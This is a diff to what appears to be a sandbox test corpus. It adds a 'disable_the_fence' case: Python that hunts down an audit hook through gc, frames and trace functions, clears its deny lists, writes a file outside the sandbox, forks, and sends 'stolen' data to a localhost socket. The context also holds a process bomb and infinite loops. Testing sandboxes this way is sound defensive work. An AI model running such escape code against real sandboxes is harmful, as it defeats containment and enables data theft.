@@ -7,6 +7,24 @@ CORPUS: dict[str, tuple[str, set[str]]] = {
     "subprocess_bomb": ("import subprocess, sys\nwhile True:\n    try:\n"
                         "        subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(100)'])\n"
                         "    except OSError:\n        pass\n", {"timeout", "error", "killed"}),
+    # fallback mode's audit-hook fence: find the hook (gc, a traceback's frame, a trace function),
+    # empty its sets and rebind its closure, then write outside, open a socket and fork
+    "disable_the_fence": ("import gc, os, sys, socket\n"
+                          "def attack(h):\n    try:\n        c = dict(zip(h.__code__.co_freevars, h.__closure__))\n"
+                          "        c['deny'].cell_contents.clear(); c['path_events'].cell_contents.clear()\n"
+                          "        c['inside'].cell_contents = lambda p: True\n    except Exception as e:\n        print('no', e)\n"
+                          "try:\n    for o in gc.get_objects():\n"
+                          "        if type(o).__name__ == 'function' and o.__qualname__.endswith('.<locals>.hook'):\n"
+                          "            attack(o)\nexcept Exception as e:\n    print('gc', e)\n"
+                          "try:\n    os.fork()\nexcept Exception as e:\n    try:\n        f = e.__traceback__.tb_next.tb_frame\n"
+                          "        f.f_locals['deny'].clear()\n    except Exception as e2:\n        print('tb', e2)\n"
+                          "try:\n    sys.settrace(lambda fr, ev, a: fr.f_locals.get('deny', set()).clear())\n"
+                          "except Exception as e:\n    print('trace', e)\n"
+                          "try:\n    open(os.path.join(sys.argv[1], 'pwned.txt'), 'w').write('pwned')\nexcept OSError as e:\n    print(e)\n"
+                          "send = f\"import socket; socket.create_connection(('127.0.0.1', {sys.argv[4]}), timeout=2).sendall(b'stolen')\"\n"
+                          "try:\n    pid = os.fork()\n    if pid == 0:\n        os.execv(sys.executable, [sys.executable, '-c', send])\n"
+                          "    os.waitpid(pid, 0)\nexcept Exception as e:\n    print('fork', e)\n"
+                          "exec(send)\n", {"error"}),
     "infinite_loop": ("while True:\n    pass\n", {"timeout"}),
     "sleep_forever": ("import time\ntime.sleep(1000)\n", {"timeout"}),
     "busy_threads": ("import threading\ndef spin():\n    while True: pass\n"
